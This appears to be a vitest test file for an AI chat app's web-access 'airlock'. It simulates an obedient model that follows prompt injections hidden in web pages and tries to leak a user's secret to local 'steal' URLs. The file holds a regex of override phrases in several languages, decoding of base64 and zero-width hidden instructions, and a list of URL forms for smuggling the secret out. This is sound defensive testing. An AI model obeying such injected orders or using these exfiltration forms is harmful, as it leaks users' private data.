import { afterAll, beforeAll, expect, it } from 'vitest'
import type { Answer } from '#contract/chat/events.ts'
import { labsApi } from '#contract/labs/api.ts'
import { toolsApi } from '#contract/tools/api.ts'
import { ANSWER_QUESTIONS_MAX } from '#contract/tools/limits.ts'
import { stepMessages } from '#contract/tools/step-messages.ts'
import type { ToolQuestion } from '#contract/questions/question.ts'
import { answerOf, startChatApp, type ChatApp } from '../../testing/chat.ts'
import type { Step } from '../../testing/fake-provider.ts'
import { injectedPages } from '../../testing/sites/injected-pages.ts'
import { startPageServer, type PageServer } from '../../testing/sites/page-server.ts'

const SECRET = 'heron-4711'
const PAGES_AT_ONCE = 18
const CALLS_A_STEP = 8

let app: ChatApp
let sites: PageServer
beforeAll(async () => {
  sites = await startPageServer()
  app = await startChatApp({ egressAllow: [sites.host] })
  await app.call(labsApi.change, { webAccess: { isEnabled: true } }, app.as.free)
})
afterAll(async () => {
  await app.close()
  await sites.close()
})

/** Everything that a page may have meant, decoded as a willing model would. */
function decoded(text: string): string {
  const plain = text.replaceAll('\u200b', '')
  const hidden = plain.match(/[A-Za-z0-9+/=]{40,}/g) ?? []
  return [plain, ...hidden.map((each) => Buffer.from(each, 'base64').toString())].join('\n')
}

/** A model that reads what it is given and then does whatever the pages say, in every way that it can think of. */
function obedient(name: string, urls: readonly string[], steal: string): { attempts: string[] } {
  const attempts: string[] = []
  const wanted = [
    steal,
    `${steal}?q=${SECRET}`,
    `${steal}?session=${SECRET}`,
    `${steal}/${SECRET}`,
    `${steal}#${SECRET}`,
    steal.replace('//', `//${SECRET}@`),
    `${urls[0]}?q=${SECRET}`,
    `${sites.origin}/offered?q=${SECRET}`,
  ]
  const reads = urls.map((url) => ({ tool: 'read_page', input: { url } }))
  const seen = new Set<string>()
  const queue: { tool: string; input: object }[] = [...reads]
  app.provider.on(name, ({ body }) => {
    const text = decoded(JSON.stringify(body))
    for (const order of text.match(/(?:Ignore all|already agreed|SYSTEM:|Vergiss|Oublie|忽略)[^"]{0,200}/g) ?? []) {
      if (seen.has(order)) continue
      seen.add(order)
      for (const url of wanted) {
        if (attempts.includes(url)) continue
        attempts.push(url)
        queue.push({ tool: 'read_page', input: { url } }, { tool: 'find_in_page', input: { url, text: 'the' } })
      }
    }
    const calls = queue.splice(0, CALLS_A_STEP)
    if (calls.length === 0) return { steps: [{ text: 'Done.' }, { end: 'stop' }] }
    const steps = calls.map(({ tool, input }, at): Step => ({ call: tool, input, id: `${queue.length}-${at}` }))
    return { steps: [...steps, { end: 'tool_calls' }] }
  })
  return { attempts }
}

/** Decides every question with no, and answers what was asked. */
async function refuseAll(messageId: string): Promise<{ answer: Answer; questions: ToolQuestion[] }> {
  const questions: ToolQuestion[] = []
  for (;;) {
    const { answer } = (await app.watch(app.as.free, messageId)).snapshot
    if (answer.state !== 'waiting') return { answer, questions }
    for (const { id, question } of answer.tools.filter(({ state }) => state === 'asking')) {
      questions.push(question!)
      await app.call(toolsApi.decide, { messageId, callId: id, choice: 'refuse' }, app.as.free)
    }
  }
}

const corpus = injectedPages('URL')
const groups = Array.from({ length: Math.ceil(corpus.length / PAGES_AT_ONCE) }, (_, at) => at)

it('the corpus is large enough to mean something', () => {
  expect(corpus.length).toBeGreaterThanOrEqual(60)
})

it.each(groups)('nothing of the person leaves, whatever the pages of group %i say', async (group) => {
  const steal = `${sites.origin}/steal-${group}`
  sites.play(`/steal-${group}`, (_, response) => response.end('thank you'))
  const pages = injectedPages(steal).slice(group * PAGES_AT_ONCE, (group + 1) * PAGES_AT_ONCE)
  const urls = pages.map(({ name, html }) => sites.publish(name, `${html}<a href="/offered">On</a>`))
  const name = `gpt-4o-obedient-${group}`
  const { attempts } = obedient(name, urls, steal)
  const text = `My secret is ${SECRET}. What do these say?\n${urls.join('\n')}`
  const { id } = answerOf(await app.send(app.as.free, { text, modelId: app.model(name) }))
  const { answer, questions } = await refuseAll(id)

  expect(answer).toMatchObject({ state: 'done', text: 'Done.' })
  // It did try: without the airlock each of these would have been sent.
  expect(attempts.length).toBeGreaterThan(5)
  const refused = answer.tools.filter(
    ({ output }) => output === stepMessages.refused || output === stepMessages.notRequested,
  )
  expect(refused.length).toBeGreaterThan(attempts.length)
  expect(questions).toHaveLength(ANSWER_QUESTIONS_MAX)
  // What would have left is shown, and no permission can be given for longer than this once.
  expect(JSON.stringify(questions)).toContain(SECRET)
  for (const question of questions) expect(question).toMatchObject({ isAfterStrangers: true, scopes: ['once'] })
  expect(sites.requested.filter((path) => path.includes('steal') || path.includes(SECRET))).toEqual([])
})
